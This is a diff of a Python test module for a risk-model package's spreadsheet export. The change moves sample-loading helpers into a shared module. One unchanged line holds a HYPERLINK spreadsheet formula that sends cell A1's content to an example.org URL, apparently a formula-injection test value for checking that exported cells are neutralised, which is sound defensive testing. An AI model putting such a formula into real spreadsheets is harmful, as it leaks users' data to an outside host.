@@ -11,7 +11,6 @@ from collections.abc import Sequence
 from dataclasses import replace
 from functools import cache
 from itertools import cycle
-from pathlib import Path
 from typing import Any
 from xml.etree import ElementTree
 
@@ -19,8 +18,7 @@ import openpyxl
 import pytest
 from openpyxl.workbook import Workbook
 
-from riskmodel import calibration, casefile, publish, sensitivity, simulate
-from riskmodel.calibration import Calibration
+from riskmodel import casefile, sensitivity
 from riskmodel.case import Case
 from riskmodel.estimate import Curve, CurvePoint, Estimate
 from riskmodel.present import csv_files, grids, sheets, theme, workbook
@@ -28,9 +26,8 @@ from riskmodel.present.cell_text import FORMULA
 from riskmodel.present.language import CODES, Language
 from riskmodel.present.story import Story
 from riskmodel.sensitivity import Sensitivity
+from tests.present.samples import SAMPLES, estimated, figures, sample_case, sample_estimate
 
-CASES = Path(__file__).resolve().parents[2] / "data" / "cases"
-SAMPLES = ("sample_freelancer", "sample_agency")
 DAY = dt.date(2026, 11, 22)
 STORIES = (Story(20, "Freitag, 18:40: Ein Rabatt von 25 % bucht als 100 %."),)
 HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"Rechnung")'
@@ -63,25 +60,6 @@ HANDFULS = [list(NASTY)[i : i + 7] for i in range(0, len(NASTY), 7)]
 each_handful = pytest.mark.parametrize("names", HANDFULS, ids=", ".join)
 each_sample = pytest.mark.parametrize("sample", SAMPLES)
 each_language = pytest.mark.parametrize("code", CODES)
-
-
-@cache
-def figures() -> Calibration:
-    return calibration.load()
-
-
-def estimated(case: Case, trials: int = 4_000) -> Estimate:
-    return publish.publish(simulate.simulate(case, figures(), trials=trials, seed=1))
-
-
-@cache
-def sample_case(sample: str) -> Case:
-    return casefile.read(CASES / f"{sample}.toml")
-
-
-@cache
-def sample_estimate(sample: str) -> Estimate:
-    return estimated(sample_case(sample))
 
 
 @cache
